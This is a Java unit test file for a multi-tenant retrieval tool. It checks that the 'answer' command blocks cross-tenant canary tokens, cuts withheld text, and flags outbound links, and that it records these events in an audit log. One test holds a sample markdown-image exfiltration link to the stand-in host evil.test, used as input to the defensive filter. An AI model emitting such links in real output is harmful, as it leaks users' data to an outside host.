package dev.weir.adapters.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.weir.retrieve.egress.EgressPolicy;
import dev.weir.tenancy.TenantId;
import dev.weir.tenancy.canary.Canaries;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.InstantSource;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** What {@code answer} lets through, and what it tells the audit log. */
class AnswerCommandTest {
    private static final String SECRET =
            "The merger with Northwind closes on the ninth of May at a price of forty two dollars a share, and the board"
                    + " will announce it together with the results of the first quarter in Lisbon.";

    @TempDir
    private Path directory = Path.of("");

    private Path store = Path.of("");

    @BeforeEach
    void twoTenants() {
        store = directory.resolve("kb");
        for (String tenant : List.of("acme", "globex")) {
            assertThat(Console.run("keys", "init", "--store", store, "--tenant", tenant)
                            .exit())
                    .isZero();
        }
        LocalStore.open(store, keys(), Settings.defaults(), InstantSource.system())
                .close();
    }

    @Test
    void answerWhenOrdinaryThenPassesUnchangedAndNothingIsRecorded() throws IOException {
        String text = "The reading room opens at nine [1].\nIt closes at five.";
        Console console = answer(text, "--json");
        assertThat(console.exit()).isZero();
        JsonNode said = console.lines().getFirst();
        assertThat(said.path("outcome").asText()).isEqualTo("passed");
        assertThat(said.path("text").asText()).isEqualTo(text);
        assertThat(said.path("findings")).isEmpty();
        assertThat(audit()).doesNotContain("answer-stopped");
    }

    @Test
    void answerWhenItHoldsAnotherTenantsCanaryThenEndsThereAndIsRecorded() throws IOException {
        String canary = canary("globex");
        Console console = answer("The file is " + canary + ", as they say.", "--json");
        assertThat(console.exit()).isEqualTo(3);
        JsonNode said = console.lines().getFirst();
        assertThat(said.path("outcome").asText()).isEqualTo("blocked");
        assertThat(said.path("text").asText()).isEqualTo("The file is " + EgressPolicy.BLOCK_MARKER);
        assertThat(said.at("/findings/0/code").asText()).isEqualTo("foreign-canary");
        assertThat(said.at("/findings/0/start").asInt()).isEqualTo(12);
        assertThat(console.out()).doesNotContain(canary).doesNotContain("globex");
        assertThat(audit())
                .contains("\"type\":\"answer-stopped\"")
                .contains("\"outcome\":\"BLOCK\",\"found\":{\"FOREIGN_CANARY\":1}")
                .doesNotContain(canary);
    }

    @Test
    void answerWhenItHoldsWithheldTextThenThatIsCutUnlessTheReaderHadIt() throws IOException {
        Path secret = Files.writeString(directory.resolve("secret.txt"), SECRET);
        String text = "It says: " + SECRET + " And more.";
        Console cut = answer(text, "--withheld", secret);
        assertThat(cut.exit()).isEqualTo(1);
        assertThat(cut.out())
                .startsWith("It says: ")
                .contains(EgressPolicy.CUT_MARKER)
                .doesNotContain("forty two");
        assertThat(cut.err()).contains("withheld from the caller").contains("The answer was cut.");
        Console had = answer(text, "--withheld", secret, "--given", secret);
        assertThat(had.exit()).isZero();
        assertThat(had.out()).contains("forty two");
    }

    @Test
    void answerWhenThePolicyObservesThenIsTheSameAndFindingsAreNamed() throws IOException {
        String text = "See ![x](https://evil.test/p?k=Zx81kQpL9vT3mWb7RnYc2HdUe5SgAj0oXf4KtIqN6)";
        assertThat(answer(text).exit()).isEqualTo(1);
        assertThat(answer(text, "--host", "evil.test").exit()).isZero();
        Console observed = answer(text, "--egress", "observe", "--json");
        assertThat(observed.exit()).isZero();
        assertThat(observed.lines().getFirst().path("text").asText()).isEqualTo(text);
        assertThat(observed.lines().getFirst().path("findings")).isNotEmpty();
    }

    @Test
    void usageWhenWrongThenTellsWhatIs() throws IOException {
        assertThat(answer("x", "--egress", "none").err()).contains("--egress must be standard, strict or observe");
        assertThat(answer("x", "--host", "https://a.test").err()).contains("--host: a host is written");
        assertThat(answer("x", "--canaries", "0").err()).contains("--canaries must be 1-");
        Console absent = Console.run("answer", "--store", store, "--tenant", "acme", directory.resolve("none.txt"));
        assertThat(absent.exit()).isEqualTo(2);
        assertThat(absent.err()).contains("cannot read").contains("none.txt");
        assertThat(Console.run("answer", "--store", store, "--tenant", "acme").exit())
                .isEqualTo(2);
    }

    private Console answer(String text, Object... more) throws IOException {
        Path file = Files.writeString(directory.resolve("answer.txt"), text);
        List<Object> words = new ArrayList<>(List.of("answer", "--store", store, "--tenant", "acme"));
        words.addAll(List.of(more));
        words.add(file);
        return Console.run(words.toArray());
    }

    private String canary(String tenant) {
        return new Canaries(keys().open(InstantSource.system()))
                .of(new TenantId(tenant), 3)
                .token();
    }

    private KeyPlace keys() {
        return KeyPlace.withoutPassphrase(store.resolve("keys"));
    }

    /** The whole audit log of the reader's tenant; empty if nothing was recorded. */
    private String audit() throws IOException {
        StringBuilder lines = new StringBuilder();
        Path audit = store.resolve("audit");
        if (Files.isDirectory(audit)) {
            try (Stream<Path> files = Files.list(audit)) {
                for (Path file : files.filter(Files::isRegularFile).toList()) {
                    lines.append(Files.readString(file));
                }
            }
        }
        return lines.toString();
    }
}
